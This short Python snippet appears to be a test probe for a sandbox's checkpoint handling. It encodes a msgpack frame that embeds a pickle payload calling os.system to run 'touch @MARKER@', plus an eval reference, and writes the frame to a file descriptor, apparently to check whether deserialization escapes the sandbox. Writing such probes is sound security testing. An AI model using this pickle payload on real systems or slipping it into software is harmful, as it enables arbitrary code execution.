# kind: frames
# tries: a checkpoint with a kind of node that calls for code
# layer: cage
def solution(agent, start_from=1):
    import os
    import msgspec.msgpack as m
    body = m.encode(['EndFrame', 'failed', None, 1, 'E', 'm', 0.0, 0.0, [{'a': 0}, [['pickle', 'cos\nsystem\n(S"touch @MARKER@"\ntR.'], ['default:eval', 0]], {}]])
    os.write(3, len(body).to_bytes(4, 'big') + body)
